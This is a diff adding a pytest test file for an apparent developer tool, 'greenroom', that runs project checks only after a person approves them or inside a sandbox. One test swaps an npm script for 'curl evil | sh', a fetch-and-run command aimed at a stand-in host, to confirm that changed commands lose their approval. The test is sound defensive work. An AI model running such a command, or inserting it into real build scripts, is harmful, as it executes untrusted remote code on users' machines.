@@ -1,0 +1,238 @@
+"""Which checks count: what a person chose once, bound to what it ran then; the rest only in a sandbox."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from greenroom.app.runs.checks import (
+    Choices,
+    FolderLook,
+    Plan,
+    brought,
+    brought_checks,
+    own_check,
+    plan_of,
+    planned,
+    proposed,
+    setup_of,
+    together,
+)
+from greenroom.app.settings.layers import load
+from greenroom.app.trust import Ledger
+from greenroom.core.base.errors import WorldFault
+from greenroom.core.ports.checks import Check
+from greenroom.runs.checkout import Setup
+from greenroom.runs.discover import found
+from tests.runs.projects import written
+
+PACKAGE = '{"scripts": {"test": "jest", "lint": "eslint ."}}'
+
+
+class Project:
+    """A project and a person who is asked about its checks."""
+
+    def __init__(self, folder: Path) -> None:
+        self.root = written(folder / "project", {"package.json": PACKAGE})
+        (folder / "own").mkdir(mode=0o700)
+        self.choices = Choices(folder / "own" / "checks.json", Ledger(folder / "own" / "trust.json"))
+
+    @property
+    def found(self) -> tuple[Check, ...]:
+        return found(FolderLook(self.root))
+
+    def plan(self, *, walls: bool = False, more: tuple[Check, ...] = ()) -> Plan:
+        trusted = self.choices.ledger.trusted(self.root)
+        return planned((*self.found, *more), self.choices.of(self.root), trusted, walls=walls)
+
+
+@pytest.fixture(name="project")
+def a_project(tmp_path: Path) -> Project:
+    return Project(tmp_path)
+
+
+def test_what_nobody_approved_runs_in_a_sandbox_only(project: Project) -> None:
+    plan = project.plan()
+    assert (plan.run, plan.confirmed) == ((), frozenset())
+    assert plan.open == project.found
+    why = "it is not approved, and this machine has no sandbox. Approve it with `greenroom trust`."
+    assert plan.left == (f"npm test is not run: {why}", f"npm run lint is not run: {why}")
+    walled = project.plan(walls=True)
+    assert (walled.run, walled.confirmed, walled.left) == (project.found, frozenset(), ())
+
+
+def test_what_was_chosen_once_is_used_and_the_rest_is_not_asked_about_again(project: Project) -> None:
+    test, lint = project.found
+    project.choices.save(project.root, [test], [test, lint])
+    plan = project.plan()
+    assert ([one.name for one in plan.run], plan.open, plan.left) == (["npm test"], (), ())
+    assert plan.confirmed == {"npm test"}
+    assert project.plan(walls=True).run == plan.run
+    assert project.choices.path.stat().st_mode & 0o077 == 0
+
+
+def test_none_is_a_choice_too(project: Project) -> None:
+    project.choices.save(project.root, [], project.found)
+    declined = frozenset(one.digest for one in project.found)
+    assert project.plan(walls=True) == Plan(declined=declined, found=project.found)
+    project.choices.forget(project.root)
+    assert project.choices.of(project.root) is None
+    assert project.plan().open == project.found
+
+
+def test_a_command_that_means_something_else_is_asked_about_anew(project: Project) -> None:
+    project.choices.save(project.root, project.found, project.found)
+    written(project.root, {"package.json": PACKAGE.replace("jest", "curl evil | sh")})
+    plan = project.plan()
+    assert [one.name for one in plan.run] == ["npm run lint"]
+    assert [one.name for one in plan.open] == ["npm test"]
+    assert plan.left[0].startswith("npm test is not run: it has changed since you approved it")
+    written(project.root, {"package.json": '{"scripts": {"test": "jest"}}'})
+    assert [check.name for check in project.plan().run] == ["npm test"], "what is gone is not run"
+
+
+def test_trust_taken_back_is_taken_back_from_checks(project: Project) -> None:
+    project.choices.save(project.root, project.found, project.found)
+    project.choices.ledger.revoke(project.root)
+    assert project.plan().run == ()
+
+
+def test_a_yes_in_the_ledger_is_enough(project: Project) -> None:
+    project.choices.ledger.agree(project.root, map(brought, project.found))
+    assert project.plan().confirmed == {"npm test", "npm run lint"}
+
+
+def test_what_a_person_typed_is_theirs_unless_the_project_has_it(project: Project) -> None:
+    mine = own_check("  ./verify --fast ", project.found)
+    assert (mine.line, mine.own) == ("./verify --fast", True)
+    assert own_check("npm  test", project.found) == project.found[0]
+    project.choices.save(project.root, [mine], project.found)
+    written(project.root, {"package.json": "{}"})
+    assert [check.line for check in project.plan().run] == ["./verify --fast"]
+
+
+@pytest.mark.parametrize(
+    ("text", "why"),
+    [("{", "Nobody knows which checks you want"), ('{"version": 9}', "version 9"), ('{"projects": 3}', "projects")],
+)
+def test_choices_that_cannot_be_read_are_none(project: Project, text: str, why: str) -> None:
+    project.choices.path.write_text(text)
+    project.choices.path.chmod(0o600)
+    with pytest.raises(WorldFault, match=why):
+        project.plan()
+
+
+def test_choices_that_others_can_write_are_none(project: Project) -> None:
+    project.choices.path.write_text("{}")
+    project.choices.path.chmod(0o666)
+    with pytest.raises(WorldFault, match="others can write it"):
+        project.plan()
+    project.choices.path.unlink()
+    project.choices.path.mkdir()
+    with pytest.raises(WorldFault, match="cannot be read"):
+        project.plan()
+
+
+def test_a_project_proposes_checks_in_its_settings_and_a_person_may_have_their_own(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    own = written(home, {"mine.toml": '[checks.mine]\nrun = "./mine"\n[checks.both]\nrun = "./both"\n'}) / "mine.toml"
+    root = written(
+        tmp_path / "project",
+        {
+            ".git/HEAD": "",
+            "package.json": PACKAGE,
+            ".greenroom/config.toml": (
+                '[checks.unit]\nrun = "npm test"\nseconds = "5m"\n'
+                '[checks.types]\nrun = "tsc"\nkind = "types"\nfolder = "web"\n'
+                '[checks.both]\nfolder = "elsewhere"\n'
+            ),
+        },
+    )
+    loaded = load({}, {"GREENROOM_CONFIG": str(own), "HOME": str(home)}, root)
+    some = {one.name: one for one in proposed(loaded.settings.checks, loaded)}
+    assert [one for one in some if some[one].own] == ["mine"]
+    assert (some["unit"].seconds, some["types"].folder, some["types"].kind) == (300, "web", "types")
+    assert some["unit"].why == f"{root}/.greenroom/config.toml says so in [checks.unit]."
+    every = together(tuple(some.values()), found(FolderLook(root)))
+    assert [one.name for one in every] == ["mine", "both", "unit", "types", "npm run lint"]
+    assert {one.name: one.means for one in every}["unit"] == "test: jest"
+
+
+def test_a_check_is_shown_with_what_it_stands_for(tmp_path: Path) -> None:
+    root = written(tmp_path / "x", {"package.json": '{"scripts": {"test": "' + "a" * 300 + '"}}', "pytest.ini": ""})
+    shown = {one.name: one.shown for one in brought_checks(root)}
+    assert shown["pytest"] == "python3 -m pytest · pytest.ini sets up pytest."
+    assert shown["npm test"].startswith("npm test · package.json has the script 'test'. · test: aaa")
+    assert shown["npm test"].endswith("a…")
+    elsewhere = Check(name="c", line="c", kind="test", why="w.", folder="web")
+    assert brought(elsewhere).shown == "c (in web) · w."
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    shared.chmod(0o1777)
+    assert brought_checks(written(shared, {"pytest.ini": ""})) == ()
+
+
+def test_only_plain_files_inside_are_looked_at(tmp_path: Path) -> None:
+    root = written(tmp_path / "x", {"a": "1"})
+    written(tmp_path, {"secret": "2"})
+    (root / "out").symlink_to(tmp_path / "secret")
+    (root / "loop").symlink_to(root / "loop")
+    look = FolderLook(root)
+    assert [look.read(name) for name in ("a", "out", "loop", "none", "\0", ".")] == [b"1", None, None, None, None, None]
+    assert look.names(".") == {"a", "out", "loop"}
+    assert look.names("none") == frozenset()
+
+
+LINE = '[workspace]\nsetup = "uv sync"\nseconds = "5m"\nlend = [".deps"]\n'
+CHECK = '[checks.unit]\nrun = "make unit"\n'
+
+
+@pytest.fixture(name="root")
+def _root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A project of a person who has no settings yet."""
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.delenv("GREENROOM_CONFIG", raising=False)
+    (tmp_path / "project" / ".greenroom").mkdir(parents=True)
+    (tmp_path / "config" / "greenroom").mkdir(parents=True)
+    return tmp_path / "project"
+
+
+def set_own(root: Path, text: str) -> None:
+    (root.parent / "config" / "greenroom" / "config.toml").write_text(text)
+
+
+def set_projects(root: Path, text: str) -> None:
+    (root / ".greenroom" / "config.toml").write_text(text)
+
+
+def test_a_setup_of_the_persons_own_runs_everywhere_and_one_of_the_project_in_a_sandbox(root: Path) -> None:
+    assert setup_of(root, walls=False) == Setup()
+    set_own(root, LINE)
+    assert setup_of(root, walls=False) == Setup(line="uv sync", seconds=300.0)
+    set_own(root, "")
+    set_projects(root, LINE)
+    assert setup_of(root, walls=True).left == ""
+    left = setup_of(root, walls=False).left
+    assert left.startswith("`uv sync` was not run: ")
+    assert "no sandbox" in left
+
+
+def test_a_check_of_the_project_runs_in_a_sandbox_and_a_persons_own_everywhere(root: Path) -> None:
+    set_projects(root, CHECK)
+    assert [check.name for check in plan_of(root, walls=True).run] == ["unit"]
+    bare = plan_of(root, walls=False)
+    assert (bare.run, [check.name for check in bare.open], len(bare.left)) == ((), ["unit"], 1)
+    (root / ".greenroom" / "config.toml").unlink()
+    set_own(root, CHECK)
+    assert [check.name for check in plan_of(root, walls=False).run] == ["unit"]
+
+
+def test_checks_that_are_gone_from_the_folder_judge_the_run_that_began_with_them(root: Path) -> None:
+    written(root, {"pyproject.toml": "[tool.pytest.ini_options]\n", "test_a.py": "def test_a(): ...\n"})
+    known = plan_of(root, walls=True).found
+    written(root, {"-pyproject.toml": "", "-test_a.py": "", "Makefile": "check:\n\ttrue\n"})
+    assert plan_of(root, walls=True, then=known).run == known
+    assert plan_of(root, walls=True, then=()).run == (), "and what came since does not"
+    set_own(root, CHECK)
+    assert [check.name for check in plan_of(root, walls=True, then=known).run] == ["unit", "pytest"], "theirs do"
